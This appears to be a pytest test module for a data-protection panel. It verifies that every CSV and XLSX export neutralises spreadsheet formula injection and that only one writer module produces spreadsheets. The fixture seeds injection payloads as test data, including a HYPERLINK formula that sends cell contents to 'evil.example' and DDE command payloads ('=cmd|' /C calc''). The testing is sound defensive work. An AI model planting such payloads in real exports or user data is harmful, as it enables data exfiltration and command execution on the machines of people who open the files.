"""Formula injection (issue 15, hole 3) across every CSV/XLSX the panel produces.

OWASP's payloads are typed into the public application form (through ``ApplyState.submit``,
the handler any browser calls) and by an officer (the disclosure register's body, number,
basis), and written straight into the database where no form can type them (a tab or CR at
the start: rows stored before today's validation, a username, an IP, a destruction act).
Then every export in ``dpa_panel.exports.EXPORTS`` that yields CSV or XLSX is fetched
through the registry, exactly as ``/api/download`` streams it, and parsed back with the csv
module, pandas and openpyxl: no cell is a formula, no text cell starts with a formula
trigger, and each payload reads back whole behind one leading quote.

The registry test makes a new export kind fail here until it is given a scenario, and the
AST test keeps ``csv``/``openpyxl``/pandas writers out of every module but the writer.
"""

from __future__ import annotations

import ast
import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, select, update

from dpa_panel.db import session_scope
from dpa_panel.exports import EXPORTS
from dpa_panel.models import DataSubject, DestructionAct, MembershipApplication
from dpa_panel.models.types import utcnow
from dpa_panel.services import audit, requests, tabular
from dpa_panel.services import disclosures as ds
from dpa_panel.services import statistics as st
from dpa_panel.services.applications import local_date
from dpa_panel.services.audit import Actor
from dpa_panel.services.consent import full_name
from dpa_panel.services.tabular import needs_neutralising
from tests.handler_call import run_handler
from tests.pipeline_helpers import form, make_staff, submit
from tests.test_tabular import PAYLOADS

ROOT = Path(__file__).resolve().parents[1]
#: Payloads a person can type into a one-line field (no control characters in them).
TYPED = [p for p in PAYLOADS if p.isprintable()]
#: Payloads only the database can hold (a leading tab, CR or LF).
STORED = [p for p in PAYLOADS if not p.isprintable()]
NAME_FIELDS = ("surname", "first_name", "patronymic", "workplace", "position")


def _apply_state():
    """A real ``ApplyState`` of a fresh tab (no session cookie, like an anonymous browser)."""
    from reflex.state import State

    import dpa_panel.dpa_panel  # noqa: F401  (registers the app's states)
    from dpa_panel.state.apply_state import ApplyState

    root = State(_reflex_internal_init=True)
    return root.get_substate(ApplyState.get_full_name().split(".")[1:])


def _apply_through_the_handler(values: dict) -> str:
    from dpa_panel.state.apply_state import ApplyState

    state = _apply_state()
    payload = {
        **form(**values),
        "consent_application_review": "on",
        "consent_informing": True,  # a Reflex ref sends a boolean
    }
    run_handler(ApplyState.submit.fn(state, payload))
    assert state.form_error == "" and state.errors == {}, (state.form_error, state.errors)
    assert state.reference.startswith("A-")
    return state.reference


@pytest.fixture
def world(engine):
    """Payloads everywhere; returns what each export must show, quoted."""
    officer = make_staff(engine, "officer", "compliance")
    reviewer = make_staff(engine, "reviewer", "compliance")
    # 1. The public form, through the real handler: one applicant with a payload in every
    #    one-line field and the multi-line one, then the rest through the service.
    first = dict(zip(NAME_FIELDS, TYPED, strict=False))
    first["other_info"] = "-2+3\n=1+1"
    _apply_through_the_handler(first)
    rest = TYPED[len(NAME_FIELDS) :]
    for n in range(0, len(rest), len(NAME_FIELDS)):
        values = dict(zip(NAME_FIELDS, rest[n : n + len(NAME_FIELDS)], strict=False))
        submit(engine, consents=("application_review", "informing"), ip=f"203.0.113.{n + 1}",
               **values)  # fmt: skip
    # 2. Rows no form can produce today (stored before validation, or imported).
    legacy = submit(engine, consents=("application_review", "informing"), ip="203.0.113.99")
    with session_scope(engine) as s:
        subject_ids = list(s.scalars(select(DataSubject.id).order_by(DataSubject.id)))
        legacy_subject = s.get(MembershipApplication, legacy).subject_id
    with engine.begin() as conn:
        conn.execute(
            update(DataSubject.__table__)
            .where(DataSubject.__table__.c.id == legacy_subject)
            .values(dict(zip(("surname", "first_name", "patronymic"), STORED, strict=True)))
        )
    # 3. The officer: a request whose body, number and basis are payloads; two packages.
    today = local_date(utcnow())
    picks = {sid: ["surname", "first_name", "patronymic", "phone", "workplace", "position",
                   "other_info"] for sid in subject_ids}  # fmt: skip
    packages = {}
    for fmt in ("csv", "xlsx"):
        with session_scope(engine) as s:
            did = ds.create_disclosure(
                s,
                Actor.user(officer),
                ds.DisclosureForm(
                    kind="authority",
                    body_type="law_enforcement",
                    body_name='=HYPERLINK("http://evil.example/?x="&A1,"ҚР ІІМ")',
                    body_department="@SUM(1+1)",
                    request_number="=2+3",
                    request_date=today.isoformat(),
                    received_via="post",
                    legal_basis="-2+3+cmd|' /C calc'!A0",
                    legal_article="+2+3",
                    answer_due_on=(today + timedelta(days=10)).isoformat(),
                    requested_categories=["identity", "contacts", "work", "other"],
                    subject_ids=subject_ids,
                ),
            ).id
            ds.set_selection(s, Actor.user(officer), did, picks,
                             {c: "=cmd|' /C calc'!A0" for c in ("identity", "contacts", "work",
                                                               "other")})  # fmt: skip
            ds.submit_for_review(s, Actor.user(officer), did)
        with session_scope(engine) as s:
            ds.approve(s, Actor.user(reviewer), did)
            ds.disclose(s, Actor.user(officer), did, fmt, "courier")
        packages[fmt] = did
    # 4. An account name, an IP and an entity id in the audit trail; a destruction act.
    odd = make_staff(engine, "=cmd|' /C calc'!A0", "staff")
    with session_scope(engine) as s:
        audit.record(s, Actor.user(odd, "\t=1+1"), "test.payload", "x", "@SUM(1+1)", {})
    now = datetime.now(UTC)
    with engine.begin() as conn:
        conn.execute(
            insert(DestructionAct.__table__).values(
                reference="=2+3", subject_ref="\r=1+1", categories='["=1+1;=2"]',
                rule="=cmd|' /C calc'!A0", due_at=now, destroyed_at=now, actor_type="-",
                digest="@SUM(1+1)", batch_id="+2+3",
            )
        )  # fmt: skip
    # 5. A data-subject request whose requester and contact an officer typed as payloads.
    with session_scope(engine) as s:
        requests.create_request(
            s, Actor.user(officer), kind="access", received_at=now, channel="email",
            requester="=HYPERLINK(\"http://evil.example\",\"x\")", contact="@SUM(1+1)",
            now=now,
        )  # fmt: skip
    # 6. A breach (issue 17) whose free-text fields an officer typed as payloads.
    from dpa_panel.services import breaches

    with session_scope(engine) as s:
        breaches.record_breach(s, Actor.user(officer), {
            "detected_at": "01.03.2026 10:00", "detected_by": "=1+1",
            "description": "x", "data_categories": "@SUM(1+1)", "systems": "+2+3",
        })  # fmt: skip
    with session_scope(engine) as s:
        subjects = s.scalars(select(DataSubject).order_by(DataSubject.id)).all()
        person_values = [getattr(x, f) for x in subjects for f in (*NAME_FIELDS, "other_info")]
        names = [full_name(x.surname, x.first_name, x.patronymic) for x in subjects]
        phones = [x.phone for x in subjects]
    person_values = [v for v in person_values if v and needs_neutralising(v)]
    request_cells = ['=HYPERLINK("http://evil.example","x")', "@SUM(1+1)"]
    register = ['=HYPERLINK("http://evil.example/?x="&A1,"ҚР ІІМ")', "@SUM(1+1)", "=2+3",
                "-2+3+cmd|' /C calc'!A0", "+2+3"]  # fmt: skip
    # As typed, less the white space the form strips ("   =1+1" is stored as "=1+1").
    assert {p.strip() for p in TYPED} <= set(person_values)
    assert set(STORED) <= set(person_values)
    return {
        "officer": officer,
        "mailing_csv": ({}, names),
        "disclosure_package_csv": ({"disclosure_id": packages["csv"]}, person_values + phones),
        "disclosure_package_xlsx": ({"disclosure_id": packages["xlsx"]}, person_values + phones),
        "disclosure_log_csv": ({"language": "ru"}, register),
        "disclosure_log_xlsx": ({"language": "en"}, register),
        "audit_csv": ({}, ["=cmd|' /C calc'!A0", "\t=1+1", "@SUM(1+1)"]),
        "requests_csv": ({"language": "kk"}, request_cells),
        "requests_xlsx": ({"language": "ru"}, request_cells),
        "breaches_csv": ({"language": "kk"}, ["=1+1", "@SUM(1+1)", "+2+3"]),
        "breaches_xlsx": ({"language": "ru"}, ["=1+1", "@SUM(1+1)", "+2+3"]),
        "acts_csv": (
            {},
            ["=2+3", "\r=1+1", "=1+1;=2", "=cmd|' /C calc'!A0", "-", "@SUM(1+1)", "+2+3"],
        ),  # fmt: skip
    }


#: Every export kind that writes CSV or XLSX -> the scenario of ``world`` it is checked with
#: (the package appears twice: one CSV and one XLSX request). ``stats_*`` publish codes and
#: counts only; they are checked for formula-free cells and at the writer with payloads.
SCENARIOS = {
    "mailing_csv": ["mailing_csv"],
    "disclosure_package": ["disclosure_package_csv", "disclosure_package_xlsx"],
    "disclosure_log_csv": ["disclosure_log_csv"],
    "disclosure_log_xlsx": ["disclosure_log_xlsx"],
    "audit_csv": ["audit_csv"],
    "acts_csv": ["acts_csv"],
    "requests_csv": ["requests_csv"],
    "requests_xlsx": ["requests_xlsx"],
    "stats_release_csv": [],
    "breaches_csv": ["breaches_csv"],
    "breaches_xlsx": ["breaches_xlsx"],
}
#: Exports that write no spreadsheet (PDF keeps every character; JSON is data, not cells).
NOT_TABULAR = {
    "disclosure_log_pdf",
    "acts_pdf",
    "subject_report_json",
    "subject_report_pdf",
    "stats_release_json",
    "access_package_pdf",
    "breaches_pdf",
    "breach_notice",
    "breach_letter",
    "inventory_pdf",
    "export_about",  # the companion text of a CSV (issue 18): label: value lines
}


def test_every_export_kind_is_classified():
    """A new export kind must be added to SCENARIOS (and so tested) or to NOT_TABULAR."""
    assert set(EXPORTS) == set(SCENARIOS) | NOT_TABULAR
    assert not set(SCENARIOS) & NOT_TABULAR
    for kind in NOT_TABULAR:
        assert EXPORTS[kind].media_type in (
            "application/pdf", "application/json", "text/plain; charset=utf-8"), kind


def _sheets(data: bytes, name: str) -> list[list]:
    """Every row of every sheet; asserts what openpyxl and pandas both see."""
    rows: list[list] = []
    book = load_workbook(io.BytesIO(data))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (name, cell.coordinate)
            rows.append([c.value for c in row])
    frames = pd.read_excel(io.BytesIO(data), sheet_name=None, header=None, dtype=object)
    for frame in frames.values():
        for value in frame.to_numpy().ravel():
            assert not (isinstance(value, str) and needs_neutralising(value)), (name, value)
    seen = {v for frame in frames.values() for v in frame.to_numpy().ravel()}
    rows.append(sorted(v for v in seen if isinstance(v, str)))
    return rows


def _csv_rows(data: bytes, name: str) -> list[list]:
    assert data.startswith("\ufeff".encode()), name
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    width = max(len(r) for r in rows)
    if not width:  # an empty table (a chart with no data yet): nothing for pandas to read
        return rows
    frame = pd.read_csv(io.BytesIO(data), header=None, names=list(range(width)), dtype=str,
                        keep_default_na=False, encoding="utf-8-sig")  # fmt: skip
    assert [[c for c in r if c != ""] for r in frame.to_numpy().tolist()] == [
        [c for c in r if c != ""] for r in rows
    ], name  # pandas reads exactly what the csv module reads
    return rows


def _fetch(kind: str, params: dict, user_id: int) -> bytes:
    return b"".join(EXPORTS[kind].stream({"kind": kind, **params}, user_id))


def test_payloads_come_out_neutralised_in_every_export(world):
    checked = []
    for kind, scenarios in SCENARIOS.items():
        for scenario in scenarios:
            params, expected = world[scenario]
            data = _fetch(kind, params, world["officer"])
            rows = _sheets(data, scenario) if data[:2] == b"PK" else _csv_rows(data, scenario)
            cells = [c for r in rows for c in r if isinstance(c, str)]
            bad = [c for c in cells if needs_neutralising(c)]
            assert not bad, (scenario, bad[:5])
            missing = [p for p in expected if "'" + p not in cells]
            assert not missing, (scenario, missing)
            checked.append(scenario)
    assert len(checked) == 11  # issue 17 added the breach register (CSV, XLSX)


def test_release_csv_goes_through_the_writer():
    """A release's CSV holds codes and counts only; its one writer still quotes any text that
    could start a formula and keeps counts numeric."""
    from dpa_panel.services.stats_releases import release_csv

    rows = [{"table": p, "period": "2026-01", "row": "=1+1", "column": "@SUM(1+1)",
             "value": -3, "hidden": False} for p in PAYLOADS]  # fmt: skip
    text = release_csv(rows).decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    text_cells = [c for r in parsed for i, c in enumerate(r) if i != 4]
    assert not [c for c in text_cells if needs_neutralising(c)]
    assert [r[0] for r in parsed[1:]] == ["'" + p for p in PAYLOADS]
    assert {r[4] for r in parsed[1:]} == {"-3"}  # a count by type stays a number


def test_statistics_writer_quotes_text_and_keeps_counts():
    table = [{"period": p, "count": -3, "marker": "<5"} for p in PAYLOADS]
    text = st.to_csv_bytes(table).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["period", "count", "marker"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    frame = pd.read_excel(io.BytesIO(st.to_xlsx_bytes(table)), dtype=object)
    assert frame["period"].tolist() == ["'" + p for p in PAYLOADS]
    assert frame["count"].tolist() == [-3] * len(PAYLOADS)  # numbers by type stay numbers


# --- nothing writes a spreadsheet but the writer ---------------------------------------------

#: The only module allowed to import a CSV/XLSX library.
WRITER = ROOT / "dpa_panel" / "services" / "tabular.py"
FORBIDDEN_MODULES = {"csv", "openpyxl", "xlsxwriter", "xlwt", "pyexcel", "odf"}
FORBIDDEN_CALLS = {"to_csv", "to_excel", "DictWriter", "ExcelWriter"}


def _violations(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        names: list[str] = []
        if isinstance(node, ast.Import):
            names = [alias.name for alias in node.names]
        elif isinstance(node, ast.ImportFrom) and node.module:
            names = [node.module]
        for name in names:
            if name.split(".")[0] in FORBIDDEN_MODULES:
                found.append(f"{path.name}:{node.lineno} imports {name}")
        if isinstance(node, ast.Attribute) and node.attr in FORBIDDEN_CALLS:
            found.append(f"{path.name}:{node.lineno} uses .{node.attr}")
    return found


def test_no_module_but_the_writer_writes_csv_or_xlsx():
    files = [p for p in (ROOT / "dpa_panel").rglob("*.py") if p != WRITER]
    assert len(files) > 50
    violations = [v for p in files for v in _violations(p)]
    assert not violations, violations
    # The check can fail: the writer itself trips it.
    assert _violations(WRITER)


# --- packages disclosed before the writer quoted cells --------------------------------------


def test_a_package_sent_before_quoting_still_rebuilds_byte_for_byte(world, engine):
    """A package recorded with writer version 1 (no quoting) keeps its digest: the rebuild
    falls back to the frozen writer, and returns exactly the bytes that were sent."""
    import hashlib

    from dpa_panel.models import Disclosure
    from dpa_panel.services import disclosure_exports as files

    for scenario in ("disclosure_package_csv", "disclosure_package_xlsx"):
        did = world[scenario][0]["disclosure_id"]
        with session_scope(engine) as s:
            disclosure = s.get(Disclosure, did)
            current, _, _ = files.build_package(s, disclosure)
            old, _, _ = files.build_package(s, disclosure, writer=1)
            assert current != old  # these packages hold payloads, so the versions differ
            # What the register recorded when this package was sent with the old writer:
            disclosure.package_sha256 = hashlib.sha256(old).hexdigest()
        with session_scope(engine) as s:
            _name, _media, again = files.package_bytes(s, did)
            assert again == old
            # The data changed since: no writer rebuilds the recorded digest.
            s.get(DataSubject, s.scalars(select(DataSubject.id)).first()).surname = "Жаңа"
            s.flush()
            with pytest.raises(ds.ServiceError) as err:
                files.package_bytes(s, did)
            assert err.value.key == "disclosure.package_changed"
            s.rollback()


def test_disclosure_audit_event_names_the_writer_version(world, engine):
    with session_scope(engine) as s:
        events = s.scalars(
            select(audit.AuditEvent.details).where(
                audit.AuditEvent.action == "disclosure.disclosed"
            )
        ).all()
    assert events and all(json.loads(d)["writer"] == tabular.WRITER_VERSION for d in events)
